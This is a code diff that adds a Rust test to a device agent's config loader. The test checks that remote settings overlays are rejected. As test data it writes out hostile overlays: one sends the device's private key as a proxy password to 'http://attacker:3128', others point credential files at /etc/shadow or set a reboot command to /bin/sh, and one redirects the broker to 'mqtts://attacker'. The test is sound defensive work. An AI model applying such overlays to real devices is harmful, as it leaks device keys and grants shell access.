@@ -314,6 +314,44 @@ fn an_overlay_never_changes_who_the_device_is_or_where_its_stores_lie() {
 }
 
 #[test]
+fn no_command_sends_a_file_of_the_device_away_or_opens_its_door() {
+    let text = format!("{MINIMAL}password_file = \"/etc/vigil/password\"\nusername = \"bar\"\n");
+    let refused = |text: &str, settings: Value| {
+        let overlay = json!({"v": 1, "version": 3, "settings": settings}).to_string();
+        let config = load_with(text, Some(&overlay)).unwrap();
+        assert_eq!(config.overlay_version, 0, "{overlay}");
+        config.warnings.join("\n")
+    };
+    // The device's private key as the password of a proxy.
+    let theft = json!({"broker": {
+        "proxy": "http://attacker:3128", "proxy_username": "x",
+        "proxy_password_file": "/var/lib/vigil/identity/device.key",
+    }});
+    let warnings = refused(MINIMAL, theft);
+    for key in ["proxy", "proxy_username", "proxy_password_file"] {
+        assert!(warnings.contains(&format!("[broker] {key} belongs to the image")), "{warnings}");
+    }
+    for settings in [
+        json!({"broker": {"ca_file": "/tmp/ca"}}),
+        json!({"broker": {"client_cert_file": "/etc/shadow"}}),
+        json!({"broker": {"password_file": "/etc/shadow"}}),
+        json!({"broker": {"allow_plaintext": true}}),
+        json!({"repository": {"ca_file": null}}),
+        json!({"network": {"partners": [{"name": "a", "host": "b", "ca_file": "/etc/shadow"}]}}),
+        json!({"local": {"read_group": "users"}}),
+        json!({"local": {}}),
+        json!({"audit": {"max_bytes": "1MiB"}}),
+        json!({"room": {"reboot": ["/bin/sh"]}}),
+    ] {
+        assert!(refused(MINIMAL, settings.clone()).contains("cannot be changed remotely"), "{settings}");
+    }
+    let elsewhere = json!({"broker": {"url": "mqtts://attacker"}});
+    assert!(refused(&text, elsewhere.clone()).contains("password_file"));
+    let overlay = json!({"v": 1, "version": 3, "settings": elsewhere}).to_string();
+    assert_eq!(load_with(MINIMAL, Some(&overlay)).unwrap().broker.url.host, "attacker", "without a password");
+}
+
+#[test]
 fn the_check_reports_files_that_are_not_there() {
     let directory = tempfile::tempdir().unwrap();
     let path = directory.path().join("vigil.toml");
